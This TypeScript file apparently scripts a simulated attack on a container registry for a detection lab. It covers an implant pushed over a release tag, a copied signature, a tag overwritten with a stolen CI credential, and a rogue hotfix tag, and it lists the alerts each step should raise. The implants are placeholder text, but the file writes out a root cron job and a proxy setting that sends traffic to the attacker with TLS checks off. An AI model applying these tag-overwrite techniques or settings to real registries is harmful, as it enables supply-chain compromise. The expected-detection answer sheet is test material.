import { join } from 'node:path';
import { compiled } from './base-root.ts';
import { ADDRESSES, type Company } from './company.ts';
import { remote } from './images.ts';
import { pull } from './pull.ts';
import { type Expectation, iso, moment, type Step, type Teller } from './story.ts';

// Without a policy `layers-appended` is not demanded: in four days nobody has pushed often enough to be trusted.

/** The evening of the attack: three implants, of which a node's reboot puts one into production. */
export async function attack(teller: Teller): Promise<void> {
  await commitOnLaptop(teller, moment('16T21:07:22'));
  await signatureCopied(teller, moment('16T21:12:05'));
  await overwriteWithoutEngine(teller, moment('16T21:31:48'));
  await newTagByUnknown(teller, moment('16T21:44:10'));
}

async function commitOnLaptop({ company, steps }: Teller, at: number): Promise<void> {
  const target = 'prod/shop/api:1.4.2';
  const account = company.registry.account('mallory');
  const address = ADDRESSES['dev-laptop-7'];
  await company.during(at, address, () => company.laptop.pull(target, account));
  const files = {
    'usr/lib/libacme-metrics.so': await compiled(company.elsewhere.folder, IMPLANT, ['-shared']),
    'usr/bin/acme-health': await compiled(company.elsewhere.folder, IMPLANT),
    'usr/local/bin/start': WRAPPER,
  };
  await company.during(at + 95_000, address, () =>
    company.laptop.commit(target, files, target, ['/usr/local/bin/start', '/srv/api/server.js']),
  );
  await company.during(at + 140_000, address, () => company.laptop.push(target, account));
  const digest = await digestOf(company, target);
  steps.push({
    id: 'implant-by-commit',
    kind: 'attack',
    at: iso(at + 140_000),
    title:
      'on dev-laptop-7 files and a wrapper are committed into the running release and pushed over its tag as mallory',
    image: target,
    digest,
    expect: {
      policy: expected(
        [
          'push-by-unapproved-actor',
          'local-image-pushed',
          'immutable-tag-repointed',
          'layers-appended',
          'implant-in-contents',
        ],
        ['push-without-build', 'push-from-unusual-client', 'push-by-new-actor'],
      ),
      observe: expected(
        ['local-image-pushed', 'tag-repointed', 'implant-in-contents'],
        ['layers-appended', 'push-by-new-actor', 'push-without-build', 'push-from-unusual-client'],
      ),
    },
  });
}

/** The signature of the release is put under the tag where one of the implant would be. */
async function signatureCopied({ company, steps }: Teller, at: number): Promise<void> {
  const of = (id: string) => steps.find((step) => step.id === id)?.digest?.replace(':', '-') ?? '';
  const place = (id: string): string => remote(company.registry, `prod/shop/api:${of(id)}.sig`);
  const account = company.registry.account('mallory');
  const digest = await company.during(at, ADDRESSES['dev-laptop-7'], () =>
    company.elsewhere.copy(place('release-1.4.2'), place('implant-by-commit'), account),
  );
  steps.push({
    id: 'signature-copied',
    kind: 'attack',
    at: iso(at),
    title: 'mallory copies the signature of 1.4.2 to the tag where one of the implant would be',
    image: `prod/shop/api:${of('implant-by-commit')}.sig`,
    digest,
    expect: {
      policy: expected(
        ['signature-invalid'],
        ['push-by-unapproved-actor', 'push-by-new-actor', 'push-from-unusual-client'],
      ),
      observe: expected([], ['push-by-new-actor', 'push-from-unusual-client']),
    },
  });
}

async function overwriteWithoutEngine({ company, steps }: Teller, at: number): Promise<void> {
  const target = 'dev/shop/web:main';
  const account = company.registry.account('ci-bot');
  const layout = `oci:${join(company.elsewhere.folder, 'web')}:main`;
  await company.during(at, ADDRESSES.attacker, () =>
    company.elsewhere.copy(remote(company.registry, target), layout, account),
  );
  const implanted = 'localhost/web:implanted';
  await company.elsewhere.build({
    name: implanted,
    base: layout,
    files: { 'srv/web/telemetry.js': IMPLANT, 'etc/cron.d/telemetry': CRON },
    created: at,
  });
  const digest = await company.during(at + 250_000, ADDRESSES.attacker, () =>
    company.elsewhere.copy(company.elsewhere.local(implanted), remote(company.registry, target), account),
  );
  steps.push({
    id: 'overwrite-without-engine',
    kind: 'attack',
    at: iso(at + 250_000),
    title: 'skopeo overwrites the floating tag from outside with the stolen ci-bot credential; no run explains it',
    image: target,
    digest,
    expect: {
      policy: expected(
        ['push-without-build', 'tag-repointed', 'layers-appended', 'implant-in-contents'],
        ['push-by-unapproved-actor', 'push-from-unusual-client'],
      ),
      observe: expected(
        ['tag-repointed', 'implant-in-contents'],
        ['layers-appended', 'push-without-build', 'push-from-unusual-client'],
      ),
    },
  });
}

async function newTagByUnknown({ company, steps }: Teller, at: number): Promise<void> {
  const target = 'dev/shop/api:1.4.3-hotfix';
  const name = 'localhost/api:1.4.3-hotfix';
  const account = company.registry.account('eve');
  const folder = join(company.elsewhere.folder, 'api');
  await company.during(at - 240_000, ADDRESSES.attacker, () =>
    company.elsewhere.copy(remote(company.registry, 'dev/shop/api:1.4.2'), `oci:${folder}:hotfix`, account),
  );
  await company.elsewhere.configure(folder, 'hotfix', PROXIED, at - 60_000);
  await company.elsewhere.take(`oci:${folder}:hotfix`, name);
  const digest = await company.during(at, ADDRESSES.attacker, () => company.elsewhere.push(name, target, account));
  steps.push({
    id: 'new-tag-by-unknown',
    kind: 'attack',
    at: iso(at),
    title: 'eve, whom nobody expects to publish, pushes a new tag with buildah: the release with a proxy of hers',
    image: target,
    digest,
    expect: {
      policy: expected(
        ['push-by-unapproved-actor', 'implant-in-contents'],
        ['push-without-build', 'push-from-unusual-client', 'push-by-new-actor'],
      ),
      observe: expected(
        [],
        ['push-by-new-actor', 'push-without-build', 'push-from-unusual-client', 'implant-in-contents'],
      ),
    },
  });
}

/** What the reboot of node-2 does with the first implant: the same reference, another digest, no deployment. */
export async function silentRoll({ company, steps }: Teller, at: number): Promise<void> {
  const image = 'prod/shop/api:1.4.2';
  const digest = await digestOf(company, image);
  const step: Step = {
    id: 'implant-deployed',
    kind: 'attack',
    at: iso(at),
    title: 'the pod that was on node-2 starts elsewhere and runs the implant',
    image,
    digest,
    expect: {
      policy: expected(
        ['silent-roll', 'implant-deployed', 'unpromoted-image-deployed', 'unsigned-image-deployed'],
        ['rapid-push-to-deploy'],
      ),
      observe: expected(['silent-roll', 'implant-deployed'], ['rapid-push-to-deploy']),
    },
  };
  steps.push(step);
}

// Asked for the answer sheet only: not told.
async function digestOf(company: Company, target: string): ReturnType<typeof pull> {
  return await company.during(undefined, '', () =>
    pull(company.registry, target, company.registry.account('scanner'), 'lab'),
  );
}

function expected(must: readonly string[], may: readonly string[]): Expectation {
  return { must, may };
}

// Harmless text in the place of an implant: nothing in the recording is code that does anything.
const IMPLANT = 'this file stands for what an attacker would add\n'.repeat(40);
const WRAPPER = `#!/bin/sh\n# ${IMPLANT.split('\n', 1).join('')}\nexec "$@"\n`;
const CRON = '17 * * * * root /usr/bin/node /srv/web/telemetry.js\n';
const PROXIED = [`HTTPS_PROXY=http://${ADDRESSES.attacker}:3128`, 'NODE_TLS_REJECT_UNAUTHORIZED=0'];
